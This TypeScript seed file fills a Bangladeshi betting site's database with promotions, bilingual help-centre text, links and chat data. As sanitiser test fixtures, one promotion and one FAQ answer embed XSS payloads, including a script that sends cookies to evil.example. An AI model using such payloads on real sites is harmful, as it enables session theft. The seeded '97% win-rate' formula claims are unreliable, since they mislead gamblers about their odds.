// The site's content, written once by migration 008 (a database that already has a merchant) or by the
// fresh-database seed: promotion categories and promotions (every flag combination, a long-term one, one not
// applicable, one ended, one not yet started, one carrying hostile HTML), the help centre and the site's
// marketing copy in Bengali and English, customer-service entries, download and social links, chat anchors and
// demo01's unread welcome message. Promotions and categories are written in English, the merchant's CMS copy,
// with their Bengali texts beside them (seedPromotionTranslations).
import { getRow, run, transaction } from './database.ts';
import { writeTranslation } from './content-texts.ts';
import type { Db } from './database.ts';
import type { ContentText } from './content-texts.ts';
import { CONTENT_LANGUAGES } from '../lib/language.ts';
import type { ContentLanguage } from '../lib/language.ts';
import type { CustomerServiceType, ResourceType, YesNo } from 'shared/contract';

const DAY = 24 * 60 * 60 * 1000;

// ---------- promotions ----------

/**
 * [id, English title, Bengali title, icon label, hue]: the icons are generated at
 * /static/promotion-categories/<id>.svg.
 */
const CATEGORIES: [number, string, string, string, number][] = [
  [1, 'New Members', 'নতুন সদস্য', 'NEW', 140],
  [2, 'Deposit Bonus', 'জমা বোনাস', '৳', 40],
  [3, 'Slots & Casino', 'স্লট ও ক্যাসিনো', '777', 330],
  [4, 'Sports', 'স্পোর্টস', 'VS', 200],
  [5, 'VIP', 'ভিআইপি', 'VIP', 275],
];

interface PromotionSeed {
  id: number;
  /** The English text: the promotion row's own. */
  title: string;
  content: string;
  bn: ContentText;
  /** Days from the seeding time (negative: in the past). */
  startDays: number;
  /** Days from the seeding time; null = no end date (noExpiry 1). */
  endDays: number | null;
  categoryIds: number[];
  applicable: boolean;
  imageRequired: YesNo;
  remarkRequired: YesNo;
  linkedPromotionId: number | null;
  hue: number;
}

/** Hostile markup the site's sanitiser must neutralise (kept verbatim by the API), in both languages. */
const HOSTILE_PROMOTION_HTML = {
  en: [
    '<h3>Lucky Spin Festival</h3>',
    '<p>Spin the lucky wheel once a day and win up to <strong>৳5,000</strong> in bonus money.</p>',
    `<img src="x" onerror="alert('promo-xss')">`,
    `<script>document.location='https://evil.example/steal?c='+document.cookie</script>`,
    `<p><a href="javascript:alert('promo-xss')">Claim now</a></p>`,
    '<iframe src="https://evil.example/frame"></iframe>',
    `<p onclick="alert('promo-xss')">Tap here for the full terms.</p>`,
  ].join(''),
  bn: [
    '<h3>লাকি স্পিন উৎসব</h3>',
    '<p>দিনে একবার লাকি হুইল ঘোরান আর জিতে নিন সর্বোচ্চ <strong>৳৫,০০০</strong> বোনাস।</p>',
    `<img src="x" onerror="alert('promo-xss')">`,
    `<script>document.location='https://evil.example/steal?c='+document.cookie</script>`,
    `<p><a href="javascript:alert('promo-xss')">এখনই নিন</a></p>`,
    '<iframe src="https://evil.example/frame"></iframe>',
    `<p onclick="alert('promo-xss')">সম্পূর্ণ শর্তাবলী দেখতে এখানে চাপুন।</p>`,
  ].join(''),
};

const PROMOTIONS: PromotionSeed[] = [
  {
    id: 1,
    title: 'First Deposit 100% Bonus',
    content:
      '<h3>Double your first deposit</h3><p>Make your first deposit of ৳500 or more and we match it 100%, up to ' +
      '<strong>৳10,000</strong>.</p><ul><li>New members only, one bonus per person</li><li>Turnover x10 before ' +
      'withdrawal</li><li>Attach a screenshot of your bKash or Nagad payment and write your transaction ID in ' +
      'the remark</li></ul>',
    bn: {
      title: 'প্রথম জমায় ১০০% বোনাস',
      content:
        '<h3>প্রথম জমা হবে দ্বিগুণ</h3><p>৳৫০০ বা তার বেশি প্রথম জমা দিন, আমরা তার ১০০% মিলিয়ে দেব, সর্বোচ্চ ' +
        '<strong>৳১০,০০০</strong>।</p><ul><li>শুধু নতুন সদস্যদের জন্য, জনপ্রতি একটি বোনাস</li><li>উত্তোলনের আগে ' +
        '১০ গুণ টার্নওভার</li><li>বিকাশ বা নগদ পেমেন্টের স্ক্রিনশট সংযুক্ত করুন এবং মন্তব্যে ট্রানজ্যাকশন আইডি ' +
        'লিখুন</li></ul>',
    },
    startDays: -30,
    endDays: 60,
    categoryIds: [1, 2],
    applicable: true,
    imageRequired: 'Y',
    remarkRequired: 'Y',
    linkedPromotionId: null,
    hue: 20,
  },
  {
    id: 2,
    title: 'Weekend Reload 50%',
    content:
      '<h3>Every Saturday and Sunday</h3><p>Reload ৳1,000 or more at the weekend and get a <strong>50%</strong> ' +
      'bonus up to ৳5,000.</p><ul><li>Attach a screenshot of the deposit</li><li>Turnover x8</li></ul>',
    bn: {
      title: 'উইকেন্ড রিলোড ৫০%',
      content:
        '<h3>প্রতি শনি ও রবিবার</h3><p>সপ্তাহান্তে ৳১,০০০ বা তার বেশি রিলোড করুন আর সর্বোচ্চ ৳৫,০০০ পর্যন্ত ' +
        '<strong>৫০%</strong> বোনাস পান।</p><ul><li>জমার স্ক্রিনশট সংযুক্ত করুন</li><li>৮ গুণ টার্নওভার</li></ul>',
    },
    startDays: -14,
    endDays: 30,
    categoryIds: [2],
    applicable: true,
    imageRequired: 'Y',
    remarkRequired: 'N',
    linkedPromotionId: 1,
    hue: 50,
  },
  {
    id: 3,
    title: 'Daily Slots Cashback 1.2%',
    content:
      '<h3>Cashback on every slot spin</h3><p>Get <strong>1.2%</strong> of your daily slot turnover back, no ' +
      'matter if you win or lose.</p><p>Write your favourite slot game in the remark to apply.</p>',
    bn: {
      title: 'স্লটে প্রতিদিন ১.২% ক্যাশব্যাক',
      content:
        '<h3>প্রতিটি স্লট স্পিনে ক্যাশব্যাক</h3><p>জিতুন বা হারুন, প্রতিদিনের স্লট টার্নওভারের <strong>১.২%</strong> ' +
        'ফেরত পান।</p><p>আবেদন করতে মন্তব্যে আপনার প্রিয় স্লট গেমের নাম লিখুন।</p>',
    },
    startDays: -60,
    endDays: 90,
    categoryIds: [3],
    applicable: true,
    imageRequired: 'N',
    remarkRequired: 'Y',
    linkedPromotionId: null,
    hue: 320,
  },
  {
    id: 4,
    title: 'Cricket Accumulator Insurance',
    content:
      '<h3>One leg lost? Get your stake back</h3><p>Place a cricket accumulator of 4 legs or more; if exactly ' +
      'one leg loses we refund your stake up to <strong>৳2,000</strong> as a bonus.</p>',
    bn: {
      title: 'ক্রিকেট অ্যাকুমুলেটর ইন্স্যুরেন্স',
      content:
        '<h3>এক লেগ হারলেও স্টেক ফেরত</h3><p>৪ বা তার বেশি লেগের ক্রিকেট অ্যাকুমুলেটর বাজি ধরুন; ঠিক একটি লেগ ' +
        'হারলে আপনার স্টেক সর্বোচ্চ <strong>৳২,০০০</strong> পর্যন্ত বোনাস হিসেবে ফেরত দেওয়া হবে।</p>',
    },
    startDays: -7,
    endDays: 21,
    categoryIds: [4],
    applicable: true,
    imageRequired: 'N',
    remarkRequired: 'N',
    linkedPromotionId: null,
    hue: 190,
  },
  {
    id: 5,
    title: 'VIP Weekly Rebate',
    content:
      '<h3>A rebate every week, for good</h3><p>VIP members get up to <strong>1.5%</strong> of their weekly ' +
      'valid bets back every Monday. Long-term offer with no end date.</p>',
    bn: {
      title: 'ভিআইপি সাপ্তাহিক রিবেট',
      content:
        '<h3>প্রতি সপ্তাহে রিবেট, চিরকাল</h3><p>ভিআইপি সদস্যরা প্রতি সোমবার সাপ্তাহিক বৈধ বাজির সর্বোচ্চ ' +
        '<strong>১.৫%</strong> ফেরত পান। কোনো শেষ তারিখ নেই, দীর্ঘমেয়াদি অফার।</p>',
    },
    startDays: -180,
    endDays: null,
    categoryIds: [5, 3],
    applicable: true,
    imageRequired: 'N',
    remarkRequired: 'N',
    linkedPromotionId: null,
    hue: 270,
  },
  {
    id: 6,
    title: 'Refer a Friend: ৳500 Each',
    content:
      '<h3>Invite friends, earn together</h3><p>Share your referral link from <em>Invite Friends</em>. When your ' +
      'friend deposits ৳1,000 you both get ৳500. Credited automatically: no application needed.</p>',
    bn: {
      title: 'বন্ধুকে রেফার করুন: দুজনেই ৳৫০০',
      content:
        '<h3>বন্ধুদের আমন্ত্রণ জানান, একসাথে আয় করুন</h3><p><em>বন্ধুদের আমন্ত্রণ</em> থেকে আপনার রেফারেল লিংক ' +
        'শেয়ার করুন। আপনার বন্ধু ৳১,০০০ জমা দিলে আপনারা দুজনেই ৳৫০০ পাবেন। টাকা নিজে থেকেই যোগ হয়: আবেদনের ' +
        'দরকার নেই।</p>',
    },
    startDays: -90,
    endDays: 180,
    categoryIds: [1],
    applicable: false,
    imageRequired: 'N',
    remarkRequired: 'N',
    linkedPromotionId: null,
    hue: 110,
  },
  {
    id: 7,
    title: 'Eid Mubarak Reload 30%',
    content: '<h3>Eid Mubarak!</h3><p>30% reload bonus during the Eid holidays, up to ৳3,000.</p>',
    bn: {
      title: 'ঈদ মোবারক রিলোড ৩০%',
      content: '<h3>ঈদ মোবারক!</h3><p>ঈদের ছুটিতে ৩০% রিলোড বোনাস, সর্বোচ্চ ৳৩,০০০।</p>',
    },
    startDays: -40,
    endDays: -5,
    categoryIds: [2],
    applicable: true,
    imageRequired: 'N',
    remarkRequired: 'N',
    linkedPromotionId: null,
    hue: 150,
  },
  {
    id: 8,
    title: 'Lucky Spin Festival',
    content: HOSTILE_PROMOTION_HTML.en,
    bn: {
      title: 'লাকি স্পিন উৎসব',
      content: HOSTILE_PROMOTION_HTML.bn,
    },
    startDays: -3,
    endDays: 14,
    categoryIds: [3],
    applicable: true,
    imageRequired: 'N',
    remarkRequired: 'N',
    linkedPromotionId: null,
    hue: 0,
  },
  {
    id: 9,
    title: 'Pohela Boishakh Bonus',
    content: '<h3>Shubho Noboborsho!</h3><p>A 20% New Year bonus on every deposit for three days.</p>',
    bn: {
      title: 'পহেলা বৈশাখ বোনাস',
      content: '<h3>শুভ নববর্ষ!</h3><p>টানা তিন দিন প্রতিটি জমায় ২০% নববর্ষ বোনাস।</p>',
    },
    startDays: 10,
    endDays: 40,
    categoryIds: [2],
    applicable: true,
    imageRequired: 'N',
    remarkRequired: 'N',
    linkedPromotionId: null,
    hue: 80,
  },
];

/** Facts the site's tests rely on (ids are fixed). */
export const CONTENT_SEED = {
  categoryIds: CATEGORIES.map(([id]) => id),
  promotions: {
    /** imageRequired Y, remarkRequired Y. */
    bothRequired: 1,
    /** imageRequired Y, remarkRequired N. */
    imageOnly: 2,
    /** imageRequired N, remarkRequired Y. */
    remarkOnly: 3,
    /** imageRequired N, remarkRequired N. */
    neitherRequired: 4,
    /** noExpiry 1, endDate null. */
    longTerm: 5,
    /** applicable false: apply answers reward.not_applicable. */
    notApplicable: 6,
    /** Ended five days before seeding: not listed, detail answers promotion.not_found. */
    ended: 7,
    /** Content with <script>, onerror, javascript: link, iframe and onclick. */
    hostile: 8,
    /** Starts ten days after seeding: not listed yet. */
    upcoming: 9,
  },
  /** Listed (current) promotion ids in order. */
  currentPromotionIds: [1, 2, 3, 4, 5, 6, 8],
  helpTags: ['about', 'deposit', 'withdraw', 'faq', 'terms', 'privacy'],
  configuredResourceTypes: [
    'Android',
    'MOBILECONFIG',
    'AppDownloadIcon',
    'FACEBOOK',
    'TELEGRAM',
    'WHATSAPP',
    'INSTAGRAM',
    'YOUTUBE',
    'TWITTER',
    'TIKTOK',
    'AFFILIATELINK',
  ] as ResourceType[],
  /** No App Store app: iOS players get the configuration profile (Safari only), so the site shows that path. */
  unconfiguredResourceTypes: ['IOS', 'VIBER', 'MESSENGER', 'DISCORD', 'SpeedTest'] as ResourceType[],
  /** demo01's unread support messages after seeding. */
  demoChatUnread: 1,
  promoLinkIds: [1, 2],
} as const;

// ---------- help centre ----------

interface HelpSeed {
  tag: string;
  title: string;
  content: string;
  children: [string, string][];
}

const HOSTILE_HELP_HTML = {
  en:
    '<p>Our support team is online 24/7 on live chat and Telegram.</p>' +
    `<img src="x" onerror="alert('help-xss')"><script>alert("help-xss")</script>` +
    `<p><a href="javascript:alert('help-xss')">Open chat</a></p>` +
    '<iframe src="https://evil.example/help"></iframe>' +
    `<p onclick="alert('help-xss')">More details</p>`,
  bn:
    '<p>আমাদের সাপোর্ট টিম লাইভ চ্যাট ও টেলিগ্রামে ২৪/৭ অনলাইনে আছে।</p>' +
    `<img src="x" onerror="alert('help-xss')"><script>alert("help-xss")</script>` +
    `<p><a href="javascript:alert('help-xss')">চ্যাট খুলুন</a></p>` +
    '<iframe src="https://evil.example/help"></iframe>' +
    `<p onclick="alert('help-xss')">বিস্তারিত</p>`,
};

const HELP: Record<ContentLanguage, HelpSeed[]> = {
  en: [
    {
      tag: 'about',
      title: 'About vsbdtf5',
      content:
        '<p>vsbdtf5 is an online gaming and betting site for players in Bangladesh with more than 600 games: ' +
        'slots, live casino, cricket betting, fishing, poker and lottery.</p><p>Everything is in Taka (BDT): ' +
        'deposit and withdraw with bKash, Nagad, Rocket or bank transfer.</p>',
      children: [],
    },
    {
      tag: 'deposit',
      title: 'Deposit',
      content: '',
      children: [
        [
          'How do I deposit with bKash?',
          '<ol><li>Open <strong>Deposit</strong> in the member centre and choose bKash.</li><li>Enter the amount ' +
            '(minimum ৳200).</li><li>Send Money to the number shown and enter the transaction ID.</li></ol>',
        ],
        [
          'How do I deposit with Nagad or Rocket?',
          '<p>The same way: choose Nagad or Rocket, send the money to the number shown and enter the reference.</p>',
        ],
        [
          'How long does a deposit take?',
          '<p>Usually less than 5 minutes. If it takes more than 30 minutes, contact us on live chat.</p>',
        ],
      ],
    },
    {
      tag: 'withdraw',
      title: 'Withdrawal',
      content: '',
      children: [
        [
          'How do I withdraw?',
          '<p>Open <strong>Withdraw</strong>, choose your bKash, Nagad, Rocket or bank account, enter the amount ' +
            'and your payment password.</p>',
        ],
        ['Withdrawal limits', '<p>From ৳500 to ৳50,000 per request.</p>'],
        [
          'Why is my withdrawal pending?',
          '<p>Our team checks every withdrawal, usually within 15 minutes. Any remaining turnover must be ' +
            'completed first.</p>',
        ],
      ],
    },
    {
      tag: 'faq',
      title: 'FAQ',
      content: '',
      children: [
        [
          'I forgot my password',
          '<p>Tap <em>Forgot password?</em> on the login page and set a new password with your mobile number or ' +
            'e-mail.</p>',
        ],
        [
          'Is my account safe?',
          '<p>Yes. Passwords are stored encrypted and withdrawals need a separate payment password.</p>',
        ],
        [
          'How do I claim a promotion?',
          '<p>Open the offer on the promotion page and tap <strong>Apply</strong>. Some offers need a screenshot ' +
            'or a remark.</p>',
        ],
        ['How do I contact support?', HOSTILE_HELP_HTML.en],
      ],
    },
    {
      tag: 'terms',
      title: 'Terms & Conditions',
      content:
        '<p>You must be at least 18 years old to use this site.</p><p>One account per person; bonuses on ' +
        'duplicate accounts may be cancelled.</p><p>Bonus money needs the stated turnover before it can be ' +
        'withdrawn.</p>',
      children: [],
    },
    {
      tag: 'privacy',
      title: 'Privacy Policy',
      content:
        '<p>We keep only the data needed for your account and payments, and we never sell it.</p><p>Your mobile ' +
        'number and e-mail are used only for verification and security messages.</p>',
      children: [],
    },
  ],
  bn: [
    {
      tag: 'about',
      title: 'vsbdtf5 সম্পর্কে',
      content:
        '<p>vsbdtf5 বাংলাদেশের খেলোয়াড়দের জন্য একটি অনলাইন গেমিং ও বেটিং সাইট, যেখানে ৬০০+ গেম আছে: স্লট, ' +
        'লাইভ ক্যাসিনো, ক্রিকেট বেটিং, ফিশিং, পোকার ও লটারি।</p><p>সব লেনদেন টাকায় (BDT): বিকাশ, নগদ, রকেট বা ' +
        'ব্যাংক ট্রান্সফারে জমা ও উত্তোলন করুন।</p>',
      children: [],
    },
    {
      tag: 'deposit',
      title: 'জমা',
      content: '',
      children: [
        [
          'বিকাশ দিয়ে কীভাবে জমা দেব?',
          '<ol><li>সদস্য কেন্দ্রে <strong>জমা</strong> খুলুন এবং বিকাশ বেছে নিন।</li><li>পরিমাণ লিখুন (সর্বনিম্ন ' +
            '৳২০০)।</li><li>দেখানো নম্বরে সেন্ড মানি করুন এবং ট্রানজ্যাকশন আইডি লিখুন।</li></ol>',
        ],
        [
          'নগদ বা রকেট দিয়ে কীভাবে জমা দেব?',
          '<p>একইভাবে: নগদ বা রকেট বেছে নিন, দেখানো নম্বরে টাকা পাঠান এবং রেফারেন্স লিখুন।</p>',
        ],
        [
          'জমা হতে কত সময় লাগে?',
          '<p>সাধারণত ৫ মিনিটের কম। ৩০ মিনিটের বেশি লাগলে লাইভ চ্যাটে যোগাযোগ করুন।</p>',
        ],
      ],
    },
    {
      tag: 'withdraw',
      title: 'উত্তোলন',
      content: '',
      children: [
        [
          'কীভাবে টাকা তুলব?',
          '<p><strong>উত্তোলন</strong> খুলুন, আপনার বিকাশ, নগদ, রকেট বা ব্যাংক অ্যাকাউন্ট বেছে নিন, পরিমাণ ও ' +
            'পেমেন্ট পাসওয়ার্ড লিখুন।</p>',
        ],
        ['উত্তোলনের সীমা', '<p>প্রতি অনুরোধে ৳৫০০ থেকে ৳৫০,০০০।</p>'],
        [
          'আমার উত্তোলন কেন অপেক্ষমাণ?',
          '<p>আমাদের টিম প্রতিটি উত্তোলন যাচাই করে, সাধারণত ১৫ মিনিটের মধ্যে। বাকি টার্নওভার থাকলে আগে তা পূরণ ' +
            'করতে হবে।</p>',
        ],
      ],
    },
    {
      tag: 'faq',
      title: 'সাধারণ প্রশ্ন',
      content: '',
      children: [
        [
          'পাসওয়ার্ড ভুলে গেছি',
          '<p>লগইন পেজে <em>পাসওয়ার্ড ভুলে গেছেন?</em> চাপুন এবং মোবাইল নম্বর বা ই-মেইল দিয়ে নতুন পাসওয়ার্ড সেট ' +
            'করুন।</p>',
        ],
        [
          'আমার অ্যাকাউন্ট কি নিরাপদ?',
          '<p>হ্যাঁ। পাসওয়ার্ড এনক্রিপ্ট করে রাখা হয় এবং উত্তোলনে আলাদা পেমেন্ট পাসওয়ার্ড লাগে।</p>',
        ],
        [
          'প্রোমোশন কীভাবে দাবি করব?',
          '<p>প্রোমোশন পেজে অফারটি খুলুন এবং <strong>আবেদন করুন</strong> চাপুন। কিছু অফারে স্ক্রিনশট বা মন্তব্য ' +
            'লাগে।</p>',
        ],
        ['সাপোর্টে কীভাবে যোগাযোগ করব?', HOSTILE_HELP_HTML.bn],
      ],
    },
    {
      tag: 'terms',
      title: 'শর্তাবলী',
      content:
        '<p>এই সাইট ব্যবহার করতে আপনার বয়স অন্তত ১৮ বছর হতে হবে।</p><p>প্রতি ব্যক্তির একটি অ্যাকাউন্ট; একাধিক ' +
        'অ্যাকাউন্টের বোনাস বাতিল হতে পারে।</p><p>বোনাসের টাকা তোলার আগে নির্ধারিত টার্নওভার পূরণ করতে হবে।</p>',
      children: [],
    },
    {
      tag: 'privacy',
      title: 'গোপনীয়তা নীতি',
      content:
        '<p>আমরা শুধু আপনার অ্যাকাউন্ট ও লেনদেনের জন্য প্রয়োজনীয় তথ্য রাখি এবং তা কখনো বিক্রি করি না।</p><p>আপনার ' +
        'মোবাইল নম্বর ও ই-মেইল শুধু যাচাই ও নিরাপত্তা বার্তার জন্য ব্যবহৃত হয়।</p>',
      children: [],
    },
  ],
};

// ---------- customer service, download links ----------

/** LIVECHAT path '/chat' means "the site's own live chat" (the site calls chatLaunch and opens its chatUrl). */
export const LIVE_CHAT_PATH = '/chat';

const CUSTOMER_SERVICE: [CustomerServiceType, string, string][] = [
  ['LIVECHAT', 'Live Chat 24/7', LIVE_CHAT_PATH],
  ['TELEGRAM', 'Telegram Support', 'https://t.me/vsbdtf5_support'],
  ['TELEGRAM', 'Telegram VIP Desk', 'https://t.me/vsbdtf5_vip'],
];

export const DOWNLOAD_FILES = {
  android: '/static/downloads/vsbdtf5.apk',
  mobileconfig: '/static/downloads/vsbdtf5.mobileconfig',
} as const;

/** VIBER, MESSENGER, DISCORD and SpeedTest are deliberately not configured. */
const DOWNLOAD_LINKS: [ResourceType, string, string | null][] = [
  ['Android', DOWNLOAD_FILES.android, 'Android App'],
  ['MOBILECONFIG', DOWNLOAD_FILES.mobileconfig, 'iOS Profile'],
  ['AppDownloadIcon', '/static/content/app-icon.svg', null],
  ['FACEBOOK', 'https://www.facebook.com/vsbdtf5', 'Facebook'],
  ['TELEGRAM', 'https://t.me/vsbdtf5_official', 'Telegram'],
  ['WHATSAPP', 'https://wa.me/8801700000000', 'WhatsApp'],
  ['INSTAGRAM', 'https://www.instagram.com/vsbdtf5', 'Instagram'],
  ['YOUTUBE', 'https://www.youtube.com/@vsbdtf5', 'YouTube'],
  ['TWITTER', 'https://x.com/vsbdtf5', 'X'],
  ['TIKTOK', 'https://www.tiktok.com/@vsbdtf5', 'TikTok'],
  ['AFFILIATELINK', 'https://affiliate.vsbdtf5.example/join', 'Become an Affiliate'],
];

// ---------- site content ----------

/** Icon keys of the highlight cards: /static/content/highlight-<key>.svg. */
export const HIGHLIGHT_ICONS = {
  games: { label: '600+', hue: 20 },
  support: { label: '24/7', hue: 200 },
  slots: { label: '97%', hue: 330 },
  baccarat: { label: '97%', hue: 0 },
  payments: { label: '৳', hue: 140 },
  security: { label: '✓', hue: 260 },
} as const;
export type HighlightIcon = keyof typeof HIGHLIGHT_ICONS;

interface SiteSeed {
  highlights: [HighlightIcon, string, string][];
  helpTitle: string;
  helpBody: string;
  licenceTitle: string;
  copyright: string;
}

const SITE: Record<ContentLanguage, SiteSeed> = {
  en: {
    highlights: [
      [
        'games',
        '600+ Games',
        'Slots, live casino, cricket betting, fishing, poker and lottery from JILI, PG Soft, Evolution and more.',
      ],
      ['support', '24/7 Support', 'Live chat and Telegram support around the clock, in Bengali and English.'],
      [
        'slots',
        '97% Win-Rate Slot Formulas',
        'Learn the slot formulas our members use, with a 97% win rate.',
      ],
      [
        'baccarat',
        '97% Win-Rate Baccarat Formulas',
        'Proven baccarat formulas with a 97% win rate from our VIP team.',
      ],
      [
        'payments',
        'Fast Deposits & Withdrawals',
        'Deposit in minutes and withdraw fast with bKash, Nagad, Rocket or bank transfer.',
      ],
      ['security', 'Safe & Licensed', 'Licensed gaming, encrypted accounts and secure payments.'],
    ],
    helpTitle: 'Help Centre',
    helpBody:
      'Questions about deposits, withdrawals or your account? Read our step-by-step guides or talk to support, ' +
      'online 24/7.',
    licenceTitle: 'Licensed and regulated online gaming',
    copyright: '© 2019-2025 vsbdtf5. All rights reserved.',
  },
  bn: {
    highlights: [
      [
        'games',
        '৬০০+ গেম',
        'JILI, PG Soft, Evolution সহ আরও অনেকের স্লট, লাইভ ক্যাসিনো, ক্রিকেট বেটিং, ফিশিং, পোকার ও লটারি।',
      ],
      ['support', '২৪/৭ সাপোর্ট', 'বাংলা ও ইংরেজিতে সারাক্ষণ লাইভ চ্যাট ও টেলিগ্রাম সাপোর্ট।'],
      ['slots', '৯৭% জয়ের হারের স্লট ফর্মুলা', 'আমাদের সদস্যদের ৯৭% জয়ের হারের স্লট ফর্মুলা শিখুন।'],
      [
        'baccarat',
        '৯৭% জয়ের হারের ব্যাকারাট ফর্মুলা',
        'আমাদের ভিআইপি টিমের ৯৭% জয়ের হারের প্রমাণিত ব্যাকারাট ফর্মুলা।',
      ],
      ['payments', 'দ্রুত জমা ও উত্তোলন', 'বিকাশ, নগদ, রকেট বা ব্যাংক ট্রান্সফারে মিনিটেই জমা দিন, দ্রুত টাকা তুলুন।'],
      ['security', 'নিরাপদ ও লাইসেন্সপ্রাপ্ত', 'লাইসেন্সপ্রাপ্ত গেমিং, এনক্রিপ্ট করা অ্যাকাউন্ট ও নিরাপদ পেমেন্ট।'],
    ],
    helpTitle: 'সহায়তা কেন্দ্র',
    helpBody: 'জমা, উত্তোলন বা অ্যাকাউন্ট নিয়ে প্রশ্ন? ধাপে ধাপে গাইড পড়ুন বা ২৪/৭ সাপোর্টের সাথে কথা বলুন।',
    licenceTitle: 'লাইসেন্সপ্রাপ্ত ও নিয়ন্ত্রিত অনলাইন গেমিং',
    copyright: '© 2019-2025 vsbdtf5. সর্বস্বত্ব সংরক্ষিত।',
  },
};

export const LICENCE_IMAGE_URL = '/static/content/licence.svg';

// ---------- chat ----------

/** [nickname, list, promo feed, live, viewers, hue]: avatars at /static/chat/anchors/<id>.svg. */
const ANCHORS: [string, 'model' | 'hot' | 'focus' | 'recommend', boolean, boolean, number, number][] = [
  ['Mim Live', 'hot', true, true, 1840, 330],
  ['Nusrat', 'hot', false, true, 1215, 20],
  ['Tania Rahman', 'hot', true, false, 0, 200],
  ['Riya', 'model', false, true, 962, 280],
  ['Sadia', 'model', true, true, 640, 160],
  ['Anika', 'focus', false, true, 433, 50],
  ['Jannat', 'focus', true, false, 0, 100],
  ['Sumaiya', 'recommend', false, true, 377, 240],
  ['Farhana', 'recommend', true, true, 512, 0],
  ['Priya', 'recommend', false, false, 0, 300],
];

/** demo01's unread welcome message; '&' and '<3' show that the chat page escapes message text. */
export const CHAT_WELCOME =
  'Welcome to vsbdtf5 live support! Ask us anything about deposits & withdrawals, we answer 24/7 <3';

// ---------- writing ----------

async function seedPromotions(db: Db, now: number): Promise<void> {
  for (const [index, [id, title, , label, hue]] of CATEGORIES.entries()) {
    await run(
      db,
      'INSERT INTO promotion_categories (id, title, icon_label, hue, sequence) VALUES (?, ?, ?, ?, ?)',
      id,
      title,
      label,
      hue,
      index + 1,
    );
  }
  for (const promotion of PROMOTIONS) {
    await run(
      db,
      `INSERT INTO promotions (id, title, content, start_date, end_date, no_expiry, category_ids, images, applicable,
         image_required, remark_required, linked_promotion_id, hue, sequence)
       VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
      promotion.id,
      promotion.title,
      promotion.content,
      now + promotion.startDays * DAY,
      promotion.endDays === null ? null : now + promotion.endDays * DAY,
      promotion.endDays === null ? 1 : 0,
      JSON.stringify(promotion.categoryIds),
      JSON.stringify([{ url: `/static/promotions/${promotion.id}.svg`, sequence: 1 }]),
      promotion.applicable ? 1 : 0,
      promotion.imageRequired,
      promotion.remarkRequired,
      promotion.linkedPromotionId,
      promotion.hue,
      promotion.id,
    );
  }
}

async function seedHelp(db: Db): Promise<void> {
  for (const language of CONTENT_LANGUAGES) {
    for (const [index, item] of HELP[language].entries()) {
      const itemId = (await getRow<{ id: number }>(
        db,
        'INSERT INTO help_items (language, title, tag, content, sequence) VALUES (?, ?, ?, ?, ?) RETURNING id',
        language,
        item.title,
        item.tag,
        item.content,
        index + 1,
      ))!.id;
      for (const [childIndex, [title, content]] of item.children.entries()) {
        await run(
          db,
          'INSERT INTO help_children (help_item_id, title, content, sequence) VALUES (?, ?, ?, ?)',
          itemId,
          title,
          content,
          childIndex + 1,
        );
      }
    }
  }
}

async function seedLinks(db: Db): Promise<void> {
  for (const [index, [type, title, path]] of CUSTOMER_SERVICE.entries()) {
    await run(
      db,
      'INSERT INTO customer_service (cs_type, title, path, sequence) VALUES (?, ?, ?, ?)',
      type,
      title,
      path,
      index + 1,
    );
  }
  for (const [index, [type, url, label]] of DOWNLOAD_LINKS.entries()) {
    await run(
      db,
      'INSERT INTO download_links (resource_type, url, label_name_en, sequence) VALUES (?, ?, ?, ?)',
      type,
      url,
      label,
      index + 1,
    );
  }
}

async function seedSiteContent(db: Db): Promise<void> {
  for (const language of CONTENT_LANGUAGES) {
    const site = SITE[language];
    await run(
      db,
      `INSERT INTO site_content (language, help_title, help_body, licence_image_url, licence_title, copyright,
         promo_link_ids) VALUES (?, ?, ?, ?, ?, ?, ?)`,
      language,
      site.helpTitle,
      site.helpBody,
      LICENCE_IMAGE_URL,
      site.licenceTitle,
      site.copyright,
      JSON.stringify(CONTENT_SEED.promoLinkIds),
    );
    for (const [index, [icon, title, body]] of site.highlights.entries()) {
      await run(
        db,
        'INSERT INTO site_highlights (language, icon, title, body, sequence) VALUES (?, ?, ?, ?, ?)',
        language,
        icon,
        title,
        body,
        index + 1,
      );
    }
  }
}

async function seedChat(db: Db, now: number): Promise<void> {
  for (const [index, [nickname, list, promo, live, viewers, hue]] of ANCHORS.entries()) {
    await run(
      db,
      `INSERT INTO chat_anchors (nickname, list_name, promo, live, viewers, hue, sequence)
       VALUES (?, ?, ?, ?, ?, ?, ?)`,
      nickname,
      list,
      promo ? 1 : 0,
      live ? 1 : 0,
      viewers,
      hue,
      index + 1,
    );
  }
  const demo = await getRow<{ id: number }>(db, "SELECT id FROM members WHERE lower(account) = 'demo01'");
  if (demo) {
    await run(
      db,
      `INSERT INTO chat_messages (member_id, sender, body, created_at, read_at) VALUES (?, 'support', ?, ?, NULL)`,
      demo.id,
      CHAT_WELCOME,
      now - DAY,
    );
  }
}

/**
 * The Bengali texts of the seeded promotions and categories (migration 016's table). Apart from seedContent:
 * migration 008 writes the content of an older database with that function, before the table exists.
 */
export async function seedPromotionTranslations(db: Db): Promise<void> {
  for (const [id, , title] of CATEGORIES) {
    await writeTranslation(db, 'promotion_category', id, 'bn', { title, content: '' });
  }
  for (const promotion of PROMOTIONS)
    await writeTranslation(db, 'promotion', promotion.id, 'bn', promotion.bn);
}

/** Writes the content once: a database that already has promotions is left alone. */
export async function seedContent(db: Db, now: number): Promise<void> {
  if (((await getRow<{ n: number }>(db, 'SELECT COUNT(*) AS n FROM promotions'))?.n ?? 0) > 0) return;
  await transaction(db, async () => {
    await seedPromotions(db, now);
    await seedHelp(db);
    await seedLinks(db);
    await seedSiteContent(db);
    await seedChat(db, now);
  });
}
